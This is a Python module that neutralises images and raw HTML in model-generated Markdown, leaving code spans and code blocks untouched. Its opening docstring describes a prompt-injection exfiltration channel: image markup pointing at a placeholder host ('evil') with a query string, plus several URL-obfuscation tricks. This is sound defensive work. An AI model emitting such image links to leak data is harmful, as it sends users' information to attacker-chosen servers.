"""Neutralise images and raw HTML in Markdown, leaving code exactly as CommonMark defines it.

Model and tool text is rendered as Markdown by the GUI, so an answer that contains `![x](http://evil/?q=…)`
or `<img src=…>` would make the browser fetch a URL the text chose: a prompt-injection exfiltration channel.
Outside code every `![` becomes `\\![` (a plain link the user may click) and every `<` that could open a tag
becomes `&lt;` (shown as text); both look the same once rendered. Inside code spans and code blocks those
characters are literal already and are left alone, so code a user copies is unchanged.

What counts as code is decided by markdown-it-py's own parse (CommonMark plus GFM tables, which the browser's
renderer also applies), never by a hand-written scanner: a fence that is not at a line start, a backtick
inside a raw HTML attribute or a pipe that splits a table cell all end or prevent code exactly where the
renderer says. Escaping can change the parse (a backtick freed from an escaped HTML tag may open a new code
span), so the text is parsed again until a pass makes no edit; each edit removes one live `![` or `<`, so the
loop ends, and if it does not within `_MAX_PASSES` everything is escaped, code included.

Decision: every image is neutralised whatever its destination (remote, protocol-relative `//host`,
relative, or `data:`). A relative URL would hit the local GUI server with a path the model chose, and keeping
no image at all needs no URL parser to get wrong (`HTTP:`, `//evil`, `\\\\evil`, control characters).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.rules_inline import StateInline
    from markdown_it.token import Token

_LIVE = re.compile(r"!(?=\[)|<(?=[A-Za-z!/?])")  # an image opener or a possible HTML tag/comment
_MAX_PASSES = 20
_CODE_BLOCKS = ("fence", "code_block")

InlineRule = Callable[["StateInline", bool], bool]


def neutralize(markdown: str) -> str:
    """`markdown` with every image turned into a link and every raw HTML tag into text; code untouched."""
    text = markdown.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")  # markdown-it's own
    if not _LIVE.search(text):
        return text  # nothing to neutralise: skip the parse (the GUI calls this on every streamed delta)
    parser = _CodeFinder()
    for _ in range(_MAX_PASSES):
        edited = _escape_outside(text, parser.code_ranges(text))
        if edited == text:
            return text
        text = edited
    return _escape_outside(text, [])


def _escape_outside(text: str, code: list[tuple[int, int]]) -> str:
    """Escape each live `![` / `<` that lies outside the `code` ranges (sorted, source offsets)."""
    pieces: list[str] = []
    cursor = 0
    for start, end in [*code, (len(text), len(text))]:
        if start < cursor:
            start = cursor
        pieces.append(_escape_segment(text[cursor:start]))
        pieces.append(text[start:end])
        cursor = max(cursor, end)
    return "".join(pieces)


def _escape_segment(segment: str) -> str:
    def escape(match: re.Match[str]) -> str:
        backslashes = len(segment[: match.start()]) - len(segment[: match.start()].rstrip("\\"))
        if backslashes % 2:  # already escaped: `\![` and `\<` are literal text
            return match.group()
        return "\\!" if match.group() == "!" else "&lt;"

    return _LIVE.sub(escape, segment)


class _CodeFinder:
    """A markdown-it parser that reports the source ranges of code blocks and code spans."""

    def __init__(self) -> None:
        from markdown_it import MarkdownIt  # lazy: only the GUI renders Markdown

        self._md: MarkdownIt = MarkdownIt("commonmark").enable("table")
        self._md.disable("inline")  # inline content is parsed in `code_ranges`, where the state is known
        self._top: Any = None
        self._spans: list[tuple[int, int]] = []
        from markdown_it.rules_inline import backtick

        self._md.inline.ruler.at("backticks", self._recording(backtick))

    def _recording(self, backticks: InlineRule) -> InlineRule:
        def rule(state: StateInline, silent: bool) -> bool:
            start, count = state.pos, len(state.tokens)
            matched = backticks(state, silent)
            # Only the token's own state: an image's alt text is parsed from a copy with other offsets.
            own = matched and not silent and state is self._top
            if own and len(state.tokens) > count and state.tokens[-1].type == "code_inline":
                self._spans.append((start, state.pos))
            return matched

        return rule

    def code_ranges(self, text: str) -> list[tuple[int, int]]:
        """Sorted, non-overlapping `(start, end)` offsets in `text` that CommonMark renders as code."""
        from markdown_it.rules_inline import StateInline

        lines = text.split("\n")
        starts = [0]
        for line in lines:
            starts.append(starts[-1] + len(line) + 1)
        ranges: list[tuple[int, int]] = []
        cursors: dict[int, int] = {}  # line -> column after the last inline content placed on it
        env: dict[str, Any] = {}
        for token in self._md.parse(text, env):
            if token.type in _CODE_BLOCKS and token.map:
                ranges.append((starts[token.map[0]], starts[min(token.map[1], len(lines))] - 1))
            elif token.type == "inline" and token.map and token.content:
                self._spans = []
                self._top = StateInline(token.content, self._md, env, [])
                self._md.inline.tokenize(self._top)
                self._top = None
                ranges.extend(_place(token, self._spans, text, starts, cursors))
        return sorted(ranges)


def _place(
    token: Token, spans: list[tuple[int, int]], text: str, starts: list[int], cursors: dict[int, int]
) -> list[tuple[int, int]]:
    """Map `spans` (offsets in the token's inline content) to offsets in the source.

    Inline content is the token's source lines less container prefixes (`> `, list indents, heading marks)
    and outer spaces, so each content line is found in its source line, left of any earlier cell on that
    line. When a line cannot be placed the spans are dropped, which only means more gets escaped.
    """
    assert token.map is not None
    origins: list[int] = []  # source offset of each content character (and the newline after it)
    for index, content_line in enumerate(token.content.split("\n")):
        number = token.map[0] + index
        if number + 1 >= len(starts):
            return []
        core = content_line.strip()
        column = text[starts[number] : starts[number + 1] - 1].find(core, cursors.get(number, 0))
        if column < 0:
            return []
        cursors[number] = column + len(core)
        lead = len(content_line) - len(content_line.lstrip())
        origins.extend(starts[number] + column - lead + i for i in range(len(content_line) + 1))
    placed = []
    for start, end in spans:
        first, last = origins[start], origins[end - 1] + 1
        if not (0 <= first < last <= len(text)) or text[first] != "`" or text[last - 1] != "`":
            return []
        placed.append((first, last))
    return placed
